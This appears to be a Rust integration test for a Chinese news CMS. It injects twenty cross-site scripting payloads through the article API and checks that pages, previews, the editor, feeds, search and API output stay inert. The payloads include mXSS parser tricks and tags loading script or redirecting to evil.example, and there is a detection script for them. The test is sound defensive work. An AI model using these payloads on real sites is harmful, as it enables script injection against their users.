//! Hostile bodies, as a stolen token or a spoiled system would deliver them, through everything that shows a text.

use super::api::{ask, let_pass, token};
use super::board::soon;
use reqwest::StatusCode;
use serde_json::{Value, json};
use std::time::Instant;
use tests::browser::Browser;
use tests::people::{Newsroom, Visitor};
use tests::program::{PASSWORD, Program};

/// Each sets `window.hit` if a browser obeys it.
const BODIES: [&str; 20] = [
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=\"window.hit=1\">",
    "<p onmouseover=\"window.hit=1\" onclick='window.hit=1'>字</p>",
    "<a href=\"javascript:window.hit=1\">点</a>",
    "<a href=\"jAva&#x0A;script:window.hit=1\">点</a>",
    "<a href=\"data:text/html,<script>parent.hit=1</script>\">点</a>",
    "<svg onload=\"window.hit=1\"><circle r=9></svg>",
    "<svg><style><img src=x onerror=window.hit=1></style></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hit=1&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
    "<style>@import 'https://evil.example/x.css';body{display:none}</style>",
    "<div style=\"position:fixed;inset:0;background:url(javascript:window.hit=1)\">字</div>",
    "<iframe srcdoc=\"<script>parent.hit=1</script>\"></iframe>",
    "<object data=\"data:text/html,<script>window.hit=1</script>\"></object><embed src=x>",
    "<template><script>window.hit=1</script></template><textarea></textarea><img src=x onerror=window.hit=1></textarea>",
    "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\"><link rel=stylesheet href=//evil.example/>",
    "<!--><img src=x onerror=window.hit=1>--><![CDATA[><img src=x onerror=window.hit=1>]]>",
];

/// Whatever of a page came from a text and should not be there.
const LEFT: &str = "
const wrong = [];
if (window.hit) wrong.push('obeyed');
for (const root of document.querySelectorAll('main')) for (const el of root.querySelectorAll('*')) {
  if (/^(script|style|iframe|object|embed|math|base|meta|link|animate|noscript|template|foreignobject)$/i.test(el.localName)) wrong.push(el.localName);
  if (el.localName === 'svg' && !el.matches('.icon, [aria-hidden]')) wrong.push('svg');
  for (const a of el.attributes) {
    if (/^on/i.test(a.name)) wrong.push(a.name);
    if (/^[\\s\\u0000-\\u0020]*(javascript|vbscript|data):/i.test(a.value) && /^(href|src|action|formaction|xlink:href|srcdoc)$/.test(a.name)) wrong.push(a.name + '=' + a.value);
    if (/evil\\.example/.test(a.value) && a.name !== 'value') wrong.push(a.value);
  }
}
return wrong;";

#[tokio::test]
async fn hostile_bodies_are_harmless_in_page_comparison_preview_feed_search_and_api() {
    let town = Program::demo().await;
    let key = token(&town, "edu").await;
    let_pass(&town, "edu").await;
    let articles = town.url("edu", "/api/v1/articles");
    let (mut pages, mut answers) = (Vec::new(), Vec::new());
    for (n, body) in BODIES.iter().enumerate() {
        let mut piece = json!({
            "external": {"system": "hostile", "id": format!("h{n}")},
            "channel": "news",
            "title": format!("敌意稿件{n}<img src=x onerror=window.hit=1>"),
            "body": format!("<p>敌意甲文{n}</p>{body}<p>结尾</p>"),
            "state": "published",
        });
        let made = ask(&articles, &key, "", Some(&piece)).await;
        assert_eq!(made.status, StatusCode::CREATED, "{body}: {}", made.summary());
        let made = made.json();
        let at = town.url(
            "edu",
            &format!("/api/v1/articles/{}", made["id"].as_str().unwrap()),
        );
        piece["body"] = json!(format!("<p>敌意乙文{n}</p>{body}{body}<p>结尾</p>"));
        piece["change_note"] = json!("更正<script>window.hit=1</script>一处。");
        let changed = ask(&at, &key, "", Some(&piece)).await;
        assert_eq!(changed.status, StatusCode::OK, "{body}: {}", changed.summary());
        pages.push(made["url"].as_str().unwrap().to_owned());
        answers.push(ask(&at, &key, "", None).await);
    }
    let visitor = Visitor::new();
    // What programs read is data, whatever stands in it: never served as a page.
    for answer in &answers {
        assert!(
            answer.header("content-type").starts_with("application/json"),
            "{}",
            answer.summary()
        );
        assert_eq!(answer.header("x-content-type-options"), "nosniff");
    }
    for feed in ["/feed.xml", "/feed.atom", "/feed.json"] {
        let text = visitor.get(&town.url("edu", feed)).await.text();
        assert!(text.contains("敌意稿件19"), "{feed}: {text}");
        let low = text.to_lowercase();
        for bad in [
            "<script",
            "<img src=x",
            "&lt;script",
            "<svg",
            "<iframe",
            "javascript:",
            "srcdoc",
        ] {
            // The headline is text: it may say what it likes, once escaped for its format.
            let titles = low
                .replace("&lt;img src=x onerror=window.hit=1&gt;", "")
                .replace("<img src=x onerror=window.hit=1>", "");
            assert!(!titles.contains(bad), "{feed} carries {bad}:\n{text}");
        }
    }
    let browser = Browser::start().await;
    browser.open(&town.url("edu", "/console/")).await;
    browser.type_into("账号", "edu.editor").await;
    browser.type_into("密码", PASSWORD).await;
    browser.press("登录").await;
    browser
        .wait_for_address(&format!("edu.localhost:{}/console/", town.port()))
        .await;
    for (n, page) in pages.iter().enumerate() {
        browser.open(page).await;
        browser.wait_for_words(&format!("敌意乙文{n}")).await;
        harmless(&browser, page).await;
    }
    // The console: list, article with its editions, the newest beside the one before.
    browser
        .open(&town.url("edu", "/console/articles?q=敌意稿件"))
        .await;
    harmless(&browser, "the list").await;
    let rows = browser
        .script("return [...document.querySelectorAll('main a[href*=\"/console/articles/\"]')].map(a => a.href).filter(h => /articles\\/\\d+$/.test(h))")
        .await;
    let rows: Vec<String> = serde_json::from_value(rows).unwrap();
    assert!(rows.len() >= 20, "{rows:?}");
    for row in rows.iter().take(20) {
        for page in [row.clone(), format!("{row}/compare")] {
            browser.open(&page).await;
            browser.wait_for_words("敌意").await;
            harmless(&browser, &page).await;
        }
    }
    previewed(&browser, &town).await;
    // Search shows a snippet once the index has read it.
    let found = town.url("edu", "/search?q=敌意乙文19");
    soon(Instant::now(), "search finds the last", async || {
        visitor.get(&found).await.text().contains("敌意")
    })
    .await;
    browser.open(&found).await;
    harmless(&browser, "search").await;
}

/// All of them in one draft: its preview, and the writing form with its rich text.
async fn previewed(browser: &Browser, town: &Program) {
    let room = Newsroom::of(town, "edu").await;
    let form = room.writer.page("/console/articles/new").await;
    let body = BODIES.concat();
    let fields = [
        ("标题", "合在一起的敌意"),
        ("栏目", "教育要闻"),
        ("body_format", "html"),
        ("body", body.as_str()),
    ];
    let page = room.writer.press(&form, "保存", &fields).await;
    let edit = page.url.path().to_owned();
    for path in [edit.replace("/edit", "/preview"), edit] {
        browser.open(&town.url("edu", &path)).await;
        let sign = if path.ends_with("/edit") {
            "保存"
        } else {
            "敌意"
        };
        browser.wait_for_words(sign).await;
        if path.ends_with("/edit") {
            // Whatever the form thinks of the body, opening it as rich text obeys nothing.
            browser.script("const b = document.querySelector('[data-editor-bar] button'); if (b && b.offsetParent) b.click();").await;
        }
        harmless(browser, &path).await;
    }
}

async fn harmless(browser: &Browser, page: &str) {
    let left = browser.script(LEFT).await;
    assert_eq!(left, Value::Array(Vec::new()), "{page}");
    let complaints = browser.complaints().await;
    assert!(complaints.is_empty(), "{page}: {complaints:#?}");
}
